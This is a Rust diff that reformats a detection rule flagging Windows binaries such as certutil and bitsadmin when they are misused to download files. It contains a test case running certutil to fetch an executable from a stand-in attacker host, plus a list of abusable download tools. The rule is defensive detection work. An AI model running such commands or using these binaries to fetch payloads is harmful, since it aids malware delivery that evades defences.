@@ -15,9 +15,7 @@ pub(super) const RULE: Rule = Rule {
     operation: Operation::Download,
     kinds: &[EffectKind::Fetch, EffectKind::Write],
     check,
-    fires: &[
-        Case { action: "certutil -urlcache -split -f https://evil.example/x.exe x.exe", says: "" },
-    ],
+    fires: &[Case { action: "certutil -urlcache -split -f https://evil.example/x.exe x.exe", says: "" }],
     silent: &[
         Case { action: "curl -O https://example.com/x.tgz", says: "" },
         Case { action: "certutil -hashfile x.iso SHA256", says: "" },
@@ -25,10 +23,35 @@ pub(super) const RULE: Rule = Rule {
 };
 
 fn check(effect: &Effect, _: &Context<'_>) -> Option<Hit> {
-    let tools = ["certutil", "bitsadmin", "mpcmdrun", "desktopimgdownldr", "certreq", "hh", "ieexec", "presentationhost", "xwizard", "esentutl", "imewdbld", "finger", "cmdl32", "configsecuritypolicy", "msohtmed", "installutil", "certoc", "squirrel", "update", "wuauclt", "start-bitstransfer"];
+    let tools = [
+        "certutil",
+        "bitsadmin",
+        "mpcmdrun",
+        "desktopimgdownldr",
+        "certreq",
+        "hh",
+        "ieexec",
+        "presentationhost",
+        "xwizard",
+        "esentutl",
+        "imewdbld",
+        "finger",
+        "cmdl32",
+        "configsecuritypolicy",
+        "msohtmed",
+        "installutil",
+        "certoc",
+        "squirrel",
+        "update",
+        "wuauclt",
+        "start-bitstransfer",
+    ];
     let program = effect.program.to_lowercase();
     if effect.kind != EffectKind::Fetch || !tools.contains(&program.as_str()) {
         return None;
     }
-    Some(Hit::new(format!("{program} would be misused to download {}", names(&effect.targets))).safer(effect, "curl or the package manager, with the address in the open"))
+    Some(
+        Hit::new(format!("{program} would be misused to download {}", names(&effect.targets)))
+            .safer(effect, "curl or the package manager, with the address in the open"),
+    )
 }
